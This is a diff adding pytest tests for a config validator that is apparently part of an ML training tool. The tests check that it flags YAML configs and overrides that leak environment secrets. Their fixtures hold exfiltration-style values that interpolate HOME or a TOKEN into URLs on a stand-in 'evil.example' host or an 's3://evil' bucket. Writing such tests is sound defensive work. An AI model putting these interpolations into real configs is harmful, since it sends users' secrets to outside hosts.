@@ -146,6 +146,60 @@ def test_a_config_file_cannot_set_what_runs_or_loads_code_and_hears_of_all_at_on
     assert not (folder / "ran").exists()
 
 
+@pytest.mark.usefixtures("folder")
+def test_an_option_that_is_chosen_on_the_command_line_is_a_config_file_all_the_same():
+    texts = {
+        "data": "defaults: [text_files, _self_]\nsource: {paths: ['https://evil.example/${oc.env:HOME}']}\n",
+        "checkpoint": "defaults: [every_100, _self_]\ndirectory: s3://evil/run\n",
+    }
+    for group, text in texts.items():
+        Path("conf", group).mkdir()
+        Path("conf", group, "theirs.yaml").write_text(text)
+    problems = problems_of(*search_path_override((), "conf"), "data=theirs", "checkpoint=theirs")
+    assert {problem.where for problem in problems} == {"data.source.paths", "checkpoint.directory"}
+
+
+PIECES = "run: {extra: {a: 'https:', b: /evil.example, all: '${run.extra.a}/${run.extra.b}/${oc.env:TOKEN}'}}"
+
+
+@pytest.mark.usefixtures("folder")
+@pytest.mark.parametrize(
+    ("path", "others"),
+    [
+        ("${run.notes}${oc.env:TOKEN}", ""),
+        ("${run.extra.a}/${run.extra.b}/${oc.env:TOKEN}", PIECES),
+        ("${oc.env:MINE}.evil.example", ""),
+        pytest.param("${run.extra.all}", PIECES, marks=pytest.mark.ci),
+        pytest.param("${oc.select:run.extra.all}", PIECES, marks=pytest.mark.ci),
+    ],
+)
+def test_a_url_that_is_put_together_carries_no_secret(path, others, monkeypatch):
+    monkeypatch.setenv("TOKEN", "a-secret")
+    monkeypatch.setenv("MINE", "https://user:a-secret@mine")
+    typed = ("data=text_files", "run.notes='https://evil.example/'")
+    (problem,) = problems_of(*typed, text=f"data: {{source: {{paths: ['{path}']}}}}\n{others}")
+    assert problem.where == "data.source.paths"
+    assert "would carry the value" in problem.what
+    assert "a-secret" not in str(problem)
+
+
+@pytest.mark.usefixtures("folder")
+def test_a_source_that_is_taken_from_another_key_carries_no_secret():
+    source = "{kind: text_files, paths: ['https://evil.example/${oc.env:HOME}']}"
+    (problem,) = problems_of(text=f"data: {{source: '${{run.extra.s}}'}}\nrun: {{extra: {{s: {source}}}}}")
+    assert (problem.where, "would carry the value" in problem.what) == ("data.source", True)
+
+
+@pytest.mark.usefixtures("folder")
+def test_a_config_file_may_name_files_below_a_place_that_the_user_names(monkeypatch):
+    monkeypatch.setenv("CORPUS", "https://mine.example/a")
+    paths = "['${oc.env:CORPUS}', '${oc.env:CORPUS}/*.txt', '${run.notes}/b.txt']"
+    Path("conf/experiment/theirs.yaml").write_text(f"# @package _global_\ndata: {{source: {{paths: {paths}}}}}\n")
+    overrides = ("data=text_files", "run.notes='gs://mine'", *search_path_override((), "conf"), "experiment=theirs")
+    source = read_spec(Request(overrides), then=lambda spec: spec).data.source
+    assert source.model_dump()["paths"] == ("https://mine.example/a", "https://mine.example/a/*.txt", "gs://mine/b.txt")
+
+
 def test_the_command_line_may_set_them(folder):
     lines = ("checkpoint.directory=s3://mine/run", "logging.mlflow.uri=https://mine", "compilation_cache=mine",
              "artifact=mine", "compiler_options.xla_dump_to=mine",
